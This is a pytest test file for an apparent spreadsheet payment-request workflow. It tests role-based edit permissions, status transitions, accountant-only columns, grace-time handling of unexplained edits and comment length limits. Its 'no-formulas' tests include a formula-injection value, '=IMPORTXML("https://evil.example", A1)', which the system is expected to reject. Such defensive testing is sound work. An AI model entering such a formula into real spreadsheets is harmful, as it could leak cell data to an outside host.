from __future__ import annotations

from datetime import timedelta

import pytest

from sheetflow.model.cells import Cell
from sheetflow.model.columns import COLUMNS, Writer
from tests.desk import ADA, ADMIN, ANNA, BOTH, DIRECTOR, GOOD, HEAD, MAX, MIA, STRANGER, Desk
from tests.unit.core.outcome import assert_nothing_refused, assert_put_back, request_of, staff, told

GRACE = timedelta(seconds=60)
REQUESTERS = [column.key for column in COLUMNS if column.writer is Writer.REQUESTER]
ACCOUNTANTS = [column.key for column in COLUMNS if column.writer is Writer.ACCOUNTANT]

# --- known-editor


def test_known_editor__a_manager_types_into_a_draft() -> None:
    desk = Desk()
    rid = desk.type(MIA, subject="Paper")
    desk.run()
    assert request_of(desk, rid).cells == {"subject": "Paper"}
    assert request_of(desk, rid).requester == MIA
    assert_nothing_refused(desk)


@pytest.mark.parametrize("column", [*REQUESTERS, *ACCOUNTANTS, "comment"])
def test_known_editor__a_stranger_changes_no_column_of_a_draft(column: str) -> None:
    desk = Desk()
    rid = desk.type(MIA, subject="Paper")
    desk.run()
    before = desk.cell(rid, column)
    desk.edit(STRANGER, rid, column, "4")
    desk.run()
    assert_put_back(desk, rid, column, "known-editor", to=STRANGER, back=before)


@pytest.mark.parametrize("column", [*REQUESTERS, *ACCOUNTANTS, "comment"])
def test_known_editor__nor_of_an_approved_request(column: str) -> None:
    desk = Desk()
    rid = desk.approved()
    desk.edit(STRANGER, rid, column, "4")
    desk.run()
    assert_put_back(desk, rid, column, "known-editor", to=STRANGER, back=GOOD.get(column, ""))
    assert desk.confirmed(rid) == "Approved"


@pytest.mark.parametrize("column", ["subject", "to_pay", "comment"])
def test_known_editor__somebody_without_a_role(column: str) -> None:
    desk = Desk(staff("zoe@firm.example | Zoe |"))
    rid = desk.approved()
    desk.edit("zoe@firm.example", rid, column, "x")
    desk.run()
    assert_put_back(desk, rid, column, "known-editor", to="zoe@firm.example", back=GOOD.get(column, ""))


def test_known_editor__several_cells_are_one_letter() -> None:
    desk = Desk()
    rid = desk.submitted()
    desk.edit(STRANGER, rid, "amount", 1)
    desk.edit(STRANGER, rid, "account", "1")
    desk.run()
    assert desk.refusals == ["known-editor", "known-editor"]
    assert told(desk) == [STRANGER]


# --- fields-change-in-draft


@pytest.mark.parametrize("column", REQUESTERS)
def test_fields_change_in_draft__any_field_of_a_draft(column: str) -> None:
    desk = Desk()
    rid = desk.type(MIA, subject="Paper")
    desk.run()
    desk.edit(MIA, rid, column, "7")
    desk.run()
    assert request_of(desk, rid).cell(column) == "7"
    assert_nothing_refused(desk)


def test_fields_change_in_draft__any_field_of_a_returned_request() -> None:
    desk = Desk()
    rid = desk.submitted()
    desk.comment(HEAD, rid, "too much")
    desk.status(HEAD, rid, "Returned")
    desk.run()
    desk.edit(MIA, rid, "amount", 99)
    desk.run()
    assert request_of(desk, rid).cell("amount") == 99
    assert_nothing_refused(desk)


@pytest.mark.parametrize("column", REQUESTERS)
@pytest.mark.parametrize("person", [MIA, ADMIN, ANNA])
def test_fields_change_in_draft__no_field_of_a_submitted_one(column: str, person: str) -> None:
    desk = Desk()
    rid = desk.submitted()
    desk.edit(person, rid, column, "7")
    desk.run()
    assert_put_back(desk, rid, column, "fields-change-in-draft", to=person, back=GOOD.get(column, ""))


def test_fields_change_in_draft__the_row_is_not_confirmed_for_a_moment() -> None:
    desk = Desk()
    rid = desk.approved()
    desk.edit(MIA, rid, "account", "40702810400000000001")
    assert desk.confirmed(rid) == ""
    desk.run()
    assert desk.confirmed(rid) == "Approved"
    assert_put_back(desk, rid, "account", "fields-change-in-draft", to=MIA, back=GOOD["account"])


def test_fields_change_in_draft__emptied_and_given_as_a_number() -> None:
    desk = Desk()
    rid = desk.submitted()
    desk.edit(MIA, rid, "kpp", "")
    desk.edit(MIA, rid, "amount", "12500.50")
    desk.run()
    assert (desk.cell(rid, "kpp"), desk.cell(rid, "amount")) == (GOOD["kpp"], GOOD["amount"])
    assert desk.refusals == ["fields-change-in-draft"] * 2


def test_fields_change_in_draft__a_change_made_just_before_the_submit_belongs_to_it() -> None:
    desk = Desk()
    rid = desk.type(MIA, **GOOD)
    desk.run()
    desk.edit(MIA, rid, "amount", 77)
    desk.status(MIA, rid, "Submitted")
    desk.run()
    assert desk.accepted(rid) == "Submitted"
    assert request_of(desk, rid).cell("amount") == 77
    assert_nothing_refused(desk)


def test_fields_change_in_draft__and_so_does_one_of_hers_just_after_it() -> None:
    desk = Desk()
    rid = desk.type(MIA, **GOOD)
    desk.run()
    desk.status(MIA, rid, "Submitted")
    desk.edit(MIA, rid, "amount", 77)
    desk.run()
    assert desk.accepted(rid) == "Submitted"
    assert request_of(desk, rid).cell("amount") == 77
    assert_nothing_refused(desk)


def test_fields_change_in_draft__but_none_after_the_approval() -> None:
    desk = Desk()
    rid = desk.type(MIA, **GOOD)
    desk.run()
    desk.status(MIA, rid, "Submitted")
    desk.status(HEAD, rid, "Approved")
    desk.edit(MIA, rid, "amount", 77)
    desk.run()
    assert request_of(desk, rid).cell("amount") == GOOD["amount"]
    assert "fields-change-in-draft" in desk.refusals
    assert desk.cell(rid, "amount") == GOOD["amount"]


# --- only-the-requester-edits


@pytest.mark.parametrize("person", [MIA, ADMIN])
def test_only_the_requester_edits__herself_or_the_admin_for_her(person: str) -> None:
    desk = Desk()
    rid = desk.type(MIA, **GOOD)
    desk.run()
    desk.edit(person, rid, "subject", "More paper")
    desk.run()
    assert request_of(desk, rid).cell("subject") == "More paper"
    assert request_of(desk, rid).requester == MIA
    assert_nothing_refused(desk)


@pytest.mark.parametrize("person", [MAX, HEAD, DIRECTOR, ANNA, BOTH])
def test_only_the_requester_edits__no_colleague_corrects_the_account(person: str) -> None:
    desk = Desk()
    rid = desk.type(MIA, **GOOD)
    desk.run()
    desk.edit(person, rid, "account", "40702810400000000001")
    desk.run()
    assert_put_back(desk, rid, "account", "only-the-requester-edits", to=person, back=GOOD["account"])


def test_only_the_requester_edits__what_an_admin_typed_of_the_payee_has_to_be_confirmed() -> None:
    desk = Desk()
    rid = desk.type(MIA, **GOOD)
    desk.run()
    desk.edit(ADMIN, rid, "inn", "7702070139")
    desk.run()
    assert request_of(desk, rid).unsigned == {"inn"}
    assert "INN" in desk.checks(rid)


# --- accountants-columns


@pytest.mark.parametrize(
    ("column", "value"), [("to_pay", True), ("pay_from", "main"), ("payment_order", "x")]
)
def test_accountants_columns__an_accountant_fills_them(column: str, value: Cell) -> None:
    desk = Desk()
    rid = desk.approved()
    desk.edit(ANNA, rid, column, value)
    desk.run()
    assert request_of(desk, rid).cell(column) == value
    assert desk.events(rid)[-1] == ("FieldChanged", ANNA)
    assert desk.confirmed(rid) == "Approved"
    assert_nothing_refused(desk)


def test_accountants_columns__ticked_and_unticked() -> None:
    desk = Desk()
    rid = desk.approved()
    desk.edit(ANNA, rid, "to_pay", True)
    desk.run()
    desk.edit(ANNA, rid, "to_pay", False)
    desk.run()
    assert "to_pay" not in request_of(desk, rid).cells
    commits = desk.sheet.commits
    desk.run(later=2 * GRACE)
    assert desk.sheet.commits == commits
    assert_nothing_refused(desk)


@pytest.mark.parametrize("column", ACCOUNTANTS)
@pytest.mark.parametrize("person", [MIA, HEAD, DIRECTOR, ADMIN])
def test_accountants_columns__nobody_else_does(column: str, person: str) -> None:
    desk = Desk()
    rid = desk.approved()
    desk.edit(person, rid, column, "x")
    desk.run()
    assert_put_back(desk, rid, column, "accountants-columns", to=person, back="")


# --- no-formulas


@pytest.mark.parametrize("column", [*REQUESTERS, "comment"])
def test_no_formulas__in_no_column_of_a_draft(column: str) -> None:
    desk = Desk()
    rid = desk.type(MIA, **GOOD)
    desk.run()
    desk.edit(MIA, rid, column, '=IMPORTXML("https://evil.example", A1)')
    desk.run()
    assert_put_back(desk, rid, column, "no-formulas", to=MIA, back=GOOD.get(column, ""))


def test_no_formulas__nor_for_an_accountant() -> None:
    desk = Desk()
    rid = desk.approved()
    desk.edit(ANNA, rid, "pay_from", "=B1")
    desk.run()
    assert_put_back(desk, rid, "pay_from", "no-formulas", to=ANNA, back="")


def test_no_formulas__a_value_with_an_equals_sign_inside_is_none() -> None:
    desk = Desk()
    rid = desk.type(MIA, subject="1=1")
    desk.run()
    assert request_of(desk, rid).cell("subject") == "1=1"
    assert_nothing_refused(desk)


def test_no_formulas__one_that_nobody_is_known_to_have_typed_keeps_a_draft_from_being_sent() -> None:
    desk = Desk()
    rid = desk.type(MIA, **GOOD)
    desk.run()
    desk.edit(MIA, rid, "purpose", "=A1", seen=False)
    desk.run()
    desk.run(later=GRACE)
    desk.status(MIA, rid, "Submitted")
    desk.run()
    assert desk.accepted(rid) == "Draft"
    assert "formula" in desk.checks(rid)


# --- unexplained-change


def test_unexplained_change__a_value_in_a_draft_is_taken_as_unknown_after_the_grace_time() -> None:
    desk = Desk()
    rid = desk.type(MIA, **GOOD)
    desk.run()
    desk.edit(MIA, rid, "subject", "Pencils", seen=False)
    desk.run()
    assert request_of(desk, rid).cell("subject") == "Paper"
    desk.run(later=GRACE - timedelta(milliseconds=1))
    assert request_of(desk, rid).cell("subject") == "Paper"
    desk.run(later=timedelta(milliseconds=1))
    assert request_of(desk, rid).cell("subject") == "Pencils"
    assert request_of(desk, rid).unsigned == set()
    assert_nothing_refused(desk)


def test_unexplained_change__a_payee_field_of_a_draft_has_to_be_confirmed() -> None:
    desk = Desk()
    rid = desk.type(MIA, **GOOD)
    desk.run()
    desk.edit(MIA, rid, "inn", "7702070139", seen=False)
    desk.run()
    desk.run(later=GRACE)
    assert request_of(desk, rid).unsigned == {"inn"}


def test_unexplained_change__its_late_event_explains_it() -> None:
    desk = Desk()
    rid = desk.type(MIA, **GOOD)
    desk.run()
    event = desk.edit(MIA, rid, "inn", "7702070139", deliver=False)
    desk.run()
    desk.sheet.inbox.append(event)
    desk.run(later=GRACE / 2)
    assert request_of(desk, rid).cell("inn") == "7702070139"
    assert (request_of(desk, rid).unsigned, request_of(desk, rid).loose) == (set(), {})


@pytest.mark.parametrize("column", REQUESTERS)
def test_unexplained_change__in_a_submitted_request_it_is_put_back_at_once(column: str) -> None:
    desk = Desk()
    rid = desk.submitted()
    desk.edit(MIA, rid, column, "7", seen=False)
    desk.run()
    assert_put_back(desk, rid, column, "unexplained-change", to="", back=GOOD.get(column, ""))


def test_unexplained_change__an_accountants_cell_is_put_back_after_the_grace_time() -> None:
    desk = Desk()
    rid = desk.approved()
    desk.edit(ANNA, rid, "to_pay", True, seen=False)
    desk.run()
    assert desk.refusals == []
    desk.run(later=GRACE)
    assert_put_back(desk, rid, "to_pay", "unexplained-change", to="", back="")


def test_unexplained_change__a_status_nobody_could_have_set_is_put_back_at_once() -> None:
    desk = Desk()
    rid = desk.submitted()
    desk.edit(HEAD, rid, "status", "Paid", seen=False)
    desk.run()
    assert_put_back(desk, rid, "status", "unexplained-change", to="", back="Submitted")


def test_unexplained_change__whoever_could_have_set_the_status_is_asked_once() -> None:
    desk = Desk()
    rid = desk.submitted()
    desk.edit(HEAD, rid, "status", "Approved", seen=False)
    desk.run()
    assert (desk.accepted(rid), desk.confirmed(rid), desk.letters()) == ("Submitted", "Submitted", [])
    desk.run(later=GRACE)
    assert desk.letters() == [(HEAD, "confirm-status"), (BOTH, "confirm-status")]
    assert_put_back(desk, rid, "status", "unexplained-change", to="", back="Submitted")
    desk.run(later=GRACE)
    desk.run(later=GRACE)
    assert len(desk.letters()) == 2


def test_unexplained_change__a_status_whose_event_comes_within_the_grace_time() -> None:
    desk = Desk()
    rid = desk.approved()
    event = desk.edit(ADA, rid, "status", "Paid", deliver=False)
    desk.run()
    assert desk.accepted(rid) == "Approved"
    desk.sheet.inbox.append(event)
    desk.run(later=GRACE / 2)
    assert desk.events(rid)[-1] == ("RequestPaid", ADA)
    assert_nothing_refused(desk)


def test_unexplained_change__how_long_is_waited_is_a_setting() -> None:
    desk = Desk(settings={"grace_seconds": "5"})
    rid = desk.type(MIA, **GOOD)
    desk.run()
    desk.edit(MIA, rid, "subject", "Pencils", seen=False)
    desk.run()
    desk.run(later=timedelta(seconds=5))
    assert request_of(desk, rid).cell("subject") == "Pencils"


@pytest.mark.parametrize("target", ["Submitted", "Cancelled"])
def test_unexplained_change__a_draft_leaves_only_when_all_of_it_is_explained(target: str) -> None:
    desk = Desk()
    rid = desk.type(MIA, **GOOD)
    desk.run()
    event = desk.edit(MIA, rid, "amount", 99, deliver=False)
    desk.status(MIA, rid, target)
    desk.run()
    assert (desk.accepted(rid), desk.cell(rid, "status")) == ("Draft", target)
    desk.sheet.inbox.append(event)
    desk.run()
    assert desk.accepted(rid) == target
    assert (request_of(desk, rid).cell("amount"), desk.cell(rid, "amount")) == (99, 99)
    assert_nothing_refused(desk)


@pytest.mark.parametrize("value", [True, 100, 100.5, "  spaced  ", "x" * 1_500])
@pytest.mark.parametrize("seen", [True, False])
def test_unexplained_change__a_comment_of_any_kind_is_recorded_once(value: Cell, seen: bool) -> None:
    desk = Desk()
    rid = desk.approved()
    desk.edit(ANNA, rid, "comment", value, seen=seen)
    desk.run()
    desk.run(later=GRACE)
    assert desk.events(rid)[-1] == ("CommentAdded", ANNA if seen else "unknown")
    commits = desk.sheet.commits
    desk.run(later=GRACE)
    desk.run(later=GRACE)
    assert desk.sheet.commits == commits
    assert_nothing_refused(desk)


# --- text-fits


def test_text_fits__two_thousand_characters_of_comment() -> None:
    desk = Desk()
    rid = desk.submitted()
    desk.comment(ANNA, rid, "x" * 2_000)
    desk.run()
    assert_nothing_refused(desk)


@pytest.mark.parametrize("seen", [True, False])
def test_text_fits__a_letter_in_a_comment_is_put_back(seen: bool) -> None:
    desk = Desk()
    rid = desk.submitted()
    desk.edit(ANNA, rid, "comment", "x" * 2_001, seen=seen)
    desk.run()
    desk.run(later=timedelta(seconds=61))
    assert desk.refusals == ["text-fits" if seen else "unexplained-change"]
    assert desk.cell(rid, "comment") == ""
